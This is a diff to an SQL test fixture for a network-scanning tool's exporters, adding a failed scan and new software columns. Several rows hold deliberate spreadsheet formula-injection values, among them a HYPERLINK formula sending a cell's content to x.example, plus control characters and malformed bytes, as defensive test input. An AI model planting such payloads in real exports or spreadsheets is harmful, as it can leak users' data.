@@ -10,9 +10,15 @@
 -- structure but not valid (a surrogate, an overlong '/'), which the
 -- exporters must replace; real non-ASCII text, which must survive; and
 -- facts whose keys name secrets, which must never be exported.
+-- Scan 4 failed before it saw anything: an export of it is empty but valid.
 
 PRAGMA foreign_keys = ON;
 BEGIN;
+
+INSERT INTO scans (id, started_at, finished_at, status, targets, target_count, command, pid,
+                   hosts_up, packets_sent, replies, unprivileged, note) VALUES
+  (4, 1699995000, 1699995001, 'failed', '198.18.2.0/24', 256, 'netcensus scan 198.18.2.0/24',
+   250, NULL, NULL, NULL, 1, 'interface went away <&>');
 
 INSERT INTO hosts (id, mac, address, first_seen, last_seen, first_scan, last_scan) VALUES
   (4, '02:00:c6:12:01:28', '198.18.1.40', 1700000004, 1700000004, 2, 2);
@@ -48,14 +54,15 @@ INSERT INTO services (scan_id, host_id, proto, port, name, product, version, inf
    '220 ' || char(1) || 'evil' || CAST(X'ff' AS TEXT) || ' "ftp", ready', 'banner'),
   (2, 4, 'tcp', 3389, 'rdp', NULL, NULL, NULL, NULL, 'banner');
 
-INSERT INTO software (scan_id, host_id, name, version, vendor, install_date, source) VALUES
+INSERT INTO software (scan_id, host_id, name, version, vendor, install_date, source, arch,
+                      size_bytes) VALUES
   (2, 4, '=HYPERLINK("http://x.example/?"&A1,"click")', '1.0', 'Evil, "Corp"', '2024-01-02',
-   'ssh'),
-  (2, 4, '+1+1', '-1', '-2+3', NULL, 'ssh'),
-  (2, 4, '@SUM(A1:A9)', '+7', '@', NULL, 'ssh'),
-  (2, 4, char(9) || 'tabbed', '-0.5', NULL, NULL, 'ssh'),
-  (2, 4, 'Notepad++', '8.6', 'Don Ho', '20240101', 'ssh'),
-  (2, 4, 'Ünïcödé Tööl 日本語', '2.0', 'Ärger GmbH', NULL, 'ssh');
+   'ssh', '=x64', 1024),
+  (2, 4, '+1+1', '-1', '-2+3', NULL, 'ssh', NULL, NULL),
+  (2, 4, '@SUM(A1:A9)', '+7', '@', NULL, 'ssh', NULL, NULL),
+  (2, 4, char(9) || 'tabbed', '-0.5', NULL, NULL, 'ssh', NULL, NULL),
+  (2, 4, 'Notepad++', '8.6', 'Don Ho', '20240101', 'ssh', 'x64', 4718592),
+  (2, 4, 'Ünïcödé Tööl 日本語', '2.0', 'Ärger GmbH', NULL, 'ssh', 'x86', 0);
 
 INSERT INTO hardware (scan_id, host_id, kind, name, vendor, model, serial, firmware, extra,
                       size_bytes, used_bytes, source) VALUES
